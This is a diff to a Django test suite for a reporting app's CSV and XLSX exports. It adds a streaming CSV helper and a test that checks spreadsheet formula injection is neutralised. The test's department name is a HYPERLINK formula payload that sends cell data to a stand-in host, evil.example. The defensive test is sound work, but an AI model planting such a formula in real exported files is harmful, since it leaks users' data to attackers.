@@ -69,7 +69,7 @@ def test_the_csv_export_carries_the_same_figures(client, anna, bakery_q1):
         EXPORT, {**q1(bakery_q1), "format": "csv", "table": "figures"}, HTTP_ACCEPT_LANGUAGE="en"
     )
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    rows = exported_csv(response)
     assert rows[0][:5] == [
         "Figure",
         "This period",
@@ -80,10 +80,32 @@ def test_the_csv_export_carries_the_same_figures(client, anna, bakery_q1):
     assert [(float(r[1]), float(r[3]), float(r[4])) for r in rows[1:]] == list(HAND.values())
 
 
+def exported_csv(response) -> list[list[str]]:
+    """The rows of a download from core.spreadsheets: UTF-8 with a BOM, `;` between fields."""
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_a_department_named_like_a_formula_is_text_in_every_export(client, anna, bakery_q1):
+    """Formula injection: the department's name reaches the spreadsheet as text, not a formula."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    department = Department.objects.create(organisation=bakery_q1, name=evil)
+    Employee.objects.filter(organisation=bakery_q1).update(department=department)
+    client.force_login(anna)
+    query = {**q1(bakery_q1), "format": "csv", "table": "departments"}
+    names = [row[0] for row in exported_csv(client.get(EXPORT, query))[1:]]
+    assert names == ["'" + evil]
+    response = client.get(EXPORT, {**q1(bakery_q1), "format": "xlsx"})
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    cells = [row[0] for row in book["departments"].iter_rows(min_row=2, values_only=True)]
+    assert cells == ["'" + evil]
+    assert all(cell.data_type != "f" for row in book["departments"].iter_rows() for cell in row)
+
+
 def test_the_xlsx_export_has_a_sheet_for_every_table(client, anna, bakery_q1):
     client.force_login(anna)
     response = client.get(EXPORT, {**q1(bakery_q1), "format": "xlsx"}, HTTP_ACCEPT_LANGUAGE="en")
-    book = load_workbook(io.BytesIO(response.content))
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
     assert book.sheetnames == ["figures", "trend", "classes", "departments"]
     figures = list(book["figures"].iter_rows(min_row=2, values_only=True))
     assert [(r[1], r[3], r[4]) for r in figures] == list(HAND.values())
